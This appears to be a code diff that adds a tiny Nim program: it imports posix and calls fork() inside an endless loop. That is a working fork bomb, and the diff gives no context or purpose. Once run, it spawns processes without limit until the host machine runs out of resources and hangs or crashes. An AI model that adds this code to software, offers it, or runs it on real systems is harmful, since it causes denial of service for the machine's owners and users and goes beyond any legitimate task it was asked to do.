@@ -1,0 +1,3 @@
+import posix
+while true:
+  discard fork()
